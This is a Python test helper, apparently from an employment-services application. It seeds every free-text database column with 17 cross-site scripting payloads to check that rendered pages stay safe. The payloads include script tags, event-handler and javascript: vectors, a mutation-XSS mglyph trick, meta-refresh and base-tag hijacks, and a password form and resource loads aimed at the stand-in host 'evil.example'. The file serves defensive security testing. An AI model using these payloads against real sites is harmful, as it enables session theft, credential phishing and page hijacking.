"""A database in which people wrote what nobody should: every text column, from the models."""

from __future__ import annotations

import json
import re
import sqlite3
from collections.abc import Iterator, Sequence
from contextlib import closing
from pathlib import Path
from typing import Any

from sqlalchemy import JSON, Column, Enum, String, UniqueConstraint

import db.models  # noqa: F401 - so that the metadata knows every table
from db.base import Base

HOST = "evil.example"
RUN = "window.ran=(window.ran||0)+1"
PAYLOADS: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "onerror": f'<img src="x" data-put="1" onerror="{RUN}">',
    "onload": f'<svg data-put="1" onload="{RUN}"></svg>',
    "ontoggle": f'<details data-put="1" open ontoggle="{RUN}">x</details>',
    "link in HTML": f'<a data-put="1" href="javascript:{RUN}">x</a>',
    "link in markdown": f"[x](javascript:{RUN}) [x](https://{HOST}/link) https://{HOST}/auto",
    "link in SVG": f'<svg data-put="1"><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    "srcdoc": f'<iframe data-put="1" srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "form": f'<form data-put="1" action="https://{HOST}/form"><input name="password"></form>',
    "style": f'<style data-put="1">body {{ background: url(https://{HOST}/style) }}</style>',
    "image in HTML": f'<img data-put="1" src="https://{HOST}/html.png">',
    "image in markdown": f"![x](https://{HOST}/markdown.png) **put-bold** `put-code` :red[put-red]",
    "overlay": '<div data-put="1" style="position:fixed;inset:0;z-index:9999">x</div>',
    "mglyph": f'<math data-put="1"><mtext><mglyph><img src=x onerror="{RUN}"></mglyph></math>',
    "object": f'<object data-put="1" data="data:text/html,<script>{RUN}</script>"></object>',
    "base": f'<base data-put="1" href="https://{HOST}/">',
    "refresh": f'"><meta data-put="1" http-equiv="refresh" content="0;url=https://{HOST}/">',
}
"""The 17 payloads; an element that one of them makes carries `data-put`."""
KINDS = tuple(PAYLOADS)
GROUPS: tuple[tuple[str, ...], ...] = (
    ("image in markdown", "link in markdown", "link in HTML", "image in HTML", "refresh"),
    ("onerror", "onload", "ontoggle", "base"),
    ("link in SVG", "form", "overlay", "object"),
    ("srcdoc", "mglyph", "style", "script"),
)
"""Each whole beside the others: what swallows the rest comes last."""
CODES = re.compile(
    r"(^|_)(code|codes|number|hash|sha256|digest|key|kind|status|type|mime|format|version|language"
    r"|country|currency|isco|esco|unit|purpose|salt|token|secret|channel|action|entity|phase|state"
    r"|timezone|uri|role|level|id|ids|basis|stage|part|criterion|gate|rule|topic|template|template_key"
    r"|permission|category|column|fact|field|edition|scheme|nuts|nace|username|password|mark|choice)$"
)
"""Names of columns that hold codes, numbers and keys, which no person writes in words."""
MANY, LONGEST = 3000, 300  # of reference data: rows, and characters that each gets
FILE = re.compile(r"\.(pdf|docx|png|jpg|csv|xlsx|zip|p7s)$")
WORDS = re.compile(r"\s|[^\x00-\x7f]")
KEPT = {
    "audit_events.subject", "backup_drills.measured", "coding_decisions.lang",
    "deployments.end_reason", "deployments.insurance_payer", "esco_occupation_skills.relation",
    "jobseekers.citizenship", "jobseekers.municipality", "jobseekers.region",
    "local_employers.municipality", "local_employers.region", "local_vacancies.municipality",
    "local_vacancies.region", "messages.claim", "minimum_wages.period", "occupation_labels.lang",
    "occupation_labels.source", "occupations.parent", "officers.allowed_networks",
    "parameter_versions.values", "promise_comparisons.sentence", "ranking_runs.parameters",
    "return_gains.detail",
    "skill_groups.parent", "skill_groups.ranks_as", "skill_groups.source", "skill_labels.lang",
    "skill_labels.source", "skill_occupations.relation", "skill_occupations.source",
    "skills.label_lang", "skills.source",
}  # fmt: skip
"""Other columns that hold codes, or what only the system writes."""


def combined() -> tuple[str, ...]:
    """All 17 payloads in one text, beginning with another group in each."""
    turns = [GROUPS[first:] + GROUPS[:first] for first in range(len(GROUPS))]
    return tuple(" ".join(PAYLOADS[kind] for group in turn for kind in group) for turn in turns)


def text_columns() -> Iterator[tuple[str, Column[Any]]]:
    """Every column that could hold words, by table; the rest are codes, keys and references."""
    for table in Base.metadata.sorted_tables:
        for column in table.columns:
            if isinstance(column.type, String | JSON) and not isinstance(column.type, Enum):
                yield table.name, column


def is_free(table: str, column: Column[Any]) -> bool:
    """Whether people's words stand in it."""
    groups = [
        *(one for one in column.table.constraints if isinstance(one, UniqueConstraint)),
        *(one for one in column.table.indexes if one.unique),
    ]
    unique = {inside.name for group in groups for inside in group.columns}  # type: ignore[attr-defined]
    is_reference = column.primary_key or column.foreign_keys or column.unique
    return not (
        is_reference
        or column.name in unique
        or CODES.search(column.name)
        or f"{table}.{column.name}" in KEPT
    )


def fill(path: Path, texts: Sequence[str]) -> int:
    """Put the texts into every free column of a database file, in turn; how many columns."""
    filled = 0
    with closing(sqlite3.connect(path)) as connection, connection:
        connection.execute("PRAGMA ignore_check_constraints=ON")
        for (trigger,) in connection.execute(
            "SELECT name FROM sqlite_master WHERE type = 'trigger'"
        ).fetchall():
            connection.execute(f'DROP TRIGGER "{trigger}"')
        for number, (table, column) in enumerate(text_columns()):
            if is_free(table, column):
                turned = [*texts[number % len(texts) :], *texts[: number % len(texts)]]
                _fill_column(connection, table, column, turned)
                filled += 1
    return filled


def _fill_column(
    connection: sqlite3.Connection, table: str, column: Column[Any], texts: Sequence[str]
) -> None:
    name, is_json = column.name, isinstance(column.type, JSON)
    rows = connection.execute(f'SELECT rowid, "{name}" FROM "{table}"').fetchall()
    if any(value is not None for _, value in rows):
        rows = [(row, value) for row, value in rows if value is not None]
    elif is_json:
        return
    if len(rows) > MANY:
        texts = [text[:LONGEST] for text in texts]
    changed = [
        (_in_json(value, text) if is_json else text + _ending(value), row)
        for row, value in rows
        for text in [texts[row % len(texts)]]
    ]
    connection.executemany(f'UPDATE "{table}" SET "{name}" = ? WHERE rowid = ?', changed)


def _ending(value: str | None) -> str:
    # By its ending the system tells what a file is that it has made or let in itself.
    found = FILE.search(value or "")
    return found[0] if found else ""


def _in_json(stored: str, text: str) -> str:
    return json.dumps(_replaced(json.loads(stored), text), ensure_ascii=False)


def _replaced(value: Any, text: str) -> Any:
    match value:
        case {"text": str() as said, **others}:  # a sentence of ours: people's words are its values
            return {"text": said, **{k: _replaced(one, text) for k, one in others.items()}}
        case dict():
            return {key: _replaced(one, text) for key, one in value.items()}
        case list():
            return [_replaced(one, text) for one in value]
        case str() if WORDS.search(value):
            return text
    return value
